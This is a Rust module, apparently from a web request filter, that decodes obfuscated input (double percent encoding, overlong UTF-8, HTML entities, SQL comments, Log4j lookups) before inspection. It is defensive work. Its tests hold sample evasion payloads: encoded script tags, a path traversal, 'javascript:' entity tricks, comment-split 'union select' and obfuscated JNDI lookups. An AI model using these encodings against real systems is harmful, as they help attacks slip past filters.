//! Decoding before inspection: percent (repeated, for double encoding), `%u`
//! escapes, overlong UTF-8 slashes and dots, `+` as space, full-width ASCII,
//! case folding, HTML entities, SQL comments and Log4j lookup obfuscation.
//!
//! Every step returns the input unchanged (borrowed) when it has nothing to do,
//! so benign values cost a scan and no allocation.

use std::borrow::Cow;

use crate::normalize::hex;

/// How many rounds of percent-decoding a value gets (catches `%252e`).
const PERCENT_ROUNDS: usize = 3;

/// One round of percent-decoding (with `%uXXXX`); `plus` turns `+` into a space.
fn percent_once(s: &str, plus: bool) -> Cow<'_, str> {
    let b = s.as_bytes();
    if !b.iter().any(|&c| c == b'%' || (plus && c == b'+')) {
        return Cow::Borrowed(s);
    }
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'+' if plus => {
                out.push(b' ');
                i += 1;
            }
            b'%' => {
                if let (Some(h), Some(l)) = (
                    b.get(i + 1).copied().and_then(hex),
                    b.get(i + 2).copied().and_then(hex),
                ) {
                    out.push(h << 4 | l);
                    i += 3;
                } else if matches!(b.get(i + 1), Some(b'u' | b'U'))
                    && let Some(cp) = b
                        .get(i + 2..i + 6)
                        .filter(|h| h.iter().all(|c| hex(*c).is_some()))
                        .map(|h| {
                            h.iter()
                                .fold(0u32, |acc, c| acc << 4 | u32::from(hex(*c).unwrap_or(0)))
                        })
                {
                    let ch = char::from_u32(cp).unwrap_or(char::REPLACEMENT_CHARACTER);
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                    i += 6;
                } else {
                    out.push(b'%');
                    i += 1;
                }
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    Cow::Owned(bytes_to_string(out))
}

/// Bytes to text: overlong UTF-8 forms of `/`, `\` and `.` (an old traversal
/// trick) become the characters they smuggle; other invalid bytes are replaced.
fn bytes_to_string(bytes: Vec<u8>) -> String {
    match String::from_utf8(bytes) {
        Ok(s) => s,
        Err(e) => {
            let b = e.into_bytes();
            let mut fixed = Vec::with_capacity(b.len());
            let mut i = 0;
            while i < b.len() {
                match (b[i], b.get(i + 1).copied(), b.get(i + 2).copied()) {
                    (0xc0, Some(0xaf), _) => (fixed.push(b'/'), i += 2),
                    (0xc0, Some(0xae), _) => (fixed.push(b'.'), i += 2),
                    (0xc1, Some(0x9c), _) => (fixed.push(b'\\'), i += 2),
                    (0xe0, Some(0x80), Some(0xaf)) => (fixed.push(b'/'), i += 3),
                    (0xe0, Some(0x80), Some(0xae)) => (fixed.push(b'.'), i += 3),
                    (c, _, _) => (fixed.push(c), i += 1),
                };
            }
            String::from_utf8_lossy(&fixed).into_owned()
        }
    }
}

/// Percent-decodes up to [`PERCENT_ROUNDS`] times, until nothing changes.
pub(crate) fn percent(s: &str, plus: bool) -> Cow<'_, str> {
    let mut cur = percent_once(s, plus);
    for _ in 1..PERCENT_ROUNDS {
        match percent_once(&cur, false) {
            Cow::Borrowed(_) => break,
            Cow::Owned(next) => cur = Cow::Owned(next),
        }
    }
    cur
}

/// Case folding, full-width ASCII (`＜script＞`) to ASCII, NUL kept visible.
pub(crate) fn fold(s: &str) -> Cow<'_, str> {
    let plain = s.chars().all(|c| c.is_ascii() && !c.is_ascii_uppercase());
    if plain {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .map(|c| match c {
                '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
                c => c,
            })
            .flat_map(char::to_lowercase)
            .collect(),
    )
}

/// Named entities worth knowing for script injection.
const ENTITIES: &[(&str, char)] = &[
    ("lt", '<'),
    ("gt", '>'),
    ("quot", '"'),
    ("apos", '\''),
    ("amp", '&'),
    ("colon", ':'),
    ("lpar", '('),
    ("rpar", ')'),
    ("sol", '/'),
    ("bsol", '\\'),
    ("tab", '\t'),
    ("newline", '\n'),
    ("equals", '='),
    ("grave", '`'),
    ("nbsp", ' '),
];

/// HTML entity decoding (`&lt;`, `&#60;`, `&#x3c;`, semicolon optional),
/// twice so `&amp;lt;` is seen too. Input is already case-folded.
pub(crate) fn html(s: &str) -> Cow<'_, str> {
    if !s.contains(['&', '\t', '\n', '\r']) {
        return Cow::Borrowed(s);
    }
    let mut once = html_once(s);
    if once.contains('&') {
        once = html_once(&once);
    }
    // Browsers ignore these inside a URL scheme: `jav&#x09;ascript:`.
    once.retain(|c| !matches!(c, '\t' | '\n' | '\r'));
    Cow::Owned(once)
}

fn html_once(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find('&') {
        out.push_str(&rest[..pos]);
        let after = &rest[pos + 1..];
        if let Some((ch, used)) = entity(after) {
            out.push(ch);
            rest = after[used..].strip_prefix(';').unwrap_or(&after[used..]);
        } else {
            out.push('&');
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

/// The character an entity body (after `&`) names, and how many bytes it used.
fn entity(s: &str) -> Option<(char, usize)> {
    if let Some(num) = s.strip_prefix('#') {
        let (digits, radix, skip) = match num.strip_prefix('x') {
            Some(h) => (h, 16, 2),
            None => (num, 10, 1),
        };
        let len = digits
            .bytes()
            .take_while(|b| b.is_ascii_hexdigit() && (radix == 16 || b.is_ascii_digit()))
            .count()
            .min(8);
        let cp = u32::from_str_radix(&digits[..len], radix).ok()?;
        return Some((char::from_u32(cp)?, skip + len));
    }
    ENTITIES
        .iter()
        .find(|(name, _)| s.starts_with(name))
        .map(|(name, ch)| (*ch, name.len()))
}

/// SQL comments removed (`un/**/ion` stays split, `union/**/select` becomes
/// `union select`); MySQL versioned comments `/*!50000select*/` keep their text.
pub(crate) fn sql(s: &str) -> Cow<'_, str> {
    if !s.contains("/*") {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find("/*") {
        out.push_str(&rest[..pos]);
        let body = &rest[pos + 2..];
        let (inner, tail) = match body.find("*/") {
            Some(end) => (&body[..end], &body[end + 2..]),
            None => (body, ""),
        };
        out.push(' ');
        if let Some(v) = inner.strip_prefix('!') {
            out.push_str(v.trim_start_matches(|c: char| c.is_ascii_digit()));
            out.push(' ');
        }
        rest = tail;
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Log4j lookup obfuscation resolved: `${lower:j}`, `${upper:j}`, `${::-j}`,
/// `${env:X:-j}`, `${date:'j'}` become `j`, until `${jndi:` shows.
pub(crate) fn lookups(s: &str) -> Cow<'_, str> {
    if !s.contains("${") {
        return Cow::Borrowed(s);
    }
    let mut cur = s.to_owned();
    for _ in 0..8 {
        let next = resolve_innermost(&cur);
        if next == cur {
            break;
        }
        cur = next;
    }
    Cow::Owned(cur)
}

/// Replaces each innermost `${...}` that is an obfuscation lookup by its value.
fn resolve_innermost(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find("${") {
        out.push_str(&rest[..pos]);
        let body = &rest[pos + 2..];
        let end = body.find('}');
        let nested = body.find("${");
        match end {
            Some(end) if nested.is_none_or(|n| n > end) => {
                let inner = &body[..end];
                match lookup_value(inner) {
                    Some(v) => out.push_str(v),
                    None => {
                        out.push_str("${");
                        out.push_str(inner);
                        out.push('}');
                    }
                }
                rest = &body[end + 1..];
            }
            _ => {
                out.push_str("${");
                rest = body;
            }
        }
    }
    out.push_str(rest);
    out
}

fn lookup_value(inner: &str) -> Option<&str> {
    if let Some((_, default)) = inner.split_once(":-") {
        return Some(default);
    }
    for prefix in ["lower:", "upper:"] {
        if let Some(v) = inner.strip_prefix(prefix) {
            return Some(v);
        }
    }
    inner
        .strip_prefix("date:'")
        .and_then(|v| v.strip_suffix('\''))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn percent_rounds_and_forms() {
        assert_eq!(percent("%253Cscript%253E", false), "<script>");
        assert_eq!(percent("a+b%20c", true), "a b c");
        assert_eq!(percent("a+b", false), "a+b");
        assert_eq!(percent("%u003cscript%u003E", false), "<script>");
        assert_eq!(percent("..%c0%af..%c0%afetc", false), "../../etc");
        assert_eq!(percent("50%off 100%", false), "50%off 100%");
        assert!(matches!(percent("plain", true), Cow::Borrowed(_)));
    }

    #[test]
    fn folding() {
        assert_eq!(fold("UNION SeLeCt"), "union select");
        assert_eq!(fold("\u{ff1c}script\u{ff1e}"), "<script>");
        assert!(matches!(fold("already lower"), Cow::Borrowed(_)));
    }

    #[test]
    fn entities() {
        assert_eq!(html("&lt;img&gt;"), "<img>");
        assert_eq!(html("&#60;&#x3c;&#0000060"), "<<<");
        assert_eq!(html("jav&#x09;ascript&colon;"), "javascript:");
        assert_eq!(html("&amp;lt;b"), "<b");
        assert_eq!(html("fish & chips"), "fish & chips");
    }

    #[test]
    fn sql_comments() {
        assert_eq!(sql("union/**/select"), "union select");
        assert_eq!(sql("/*!50000union*/ select"), " union  select");
        assert_eq!(sql("1/*unterminated"), "1 ");
    }

    #[test]
    fn log4j_lookups() {
        assert_eq!(lookups("${${lower:j}ndi:ldap://x/a}"), "${jndi:ldap://x/a}");
        assert_eq!(
            lookups("${${::-j}${::-n}${::-d}${::-i}:rmi://x}"),
            "${jndi:rmi://x}"
        );
        assert_eq!(
            lookups("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"),
            "${jndi:ldap://x}"
        );
        assert_eq!(lookups("${name}"), "${name}");
    }
}
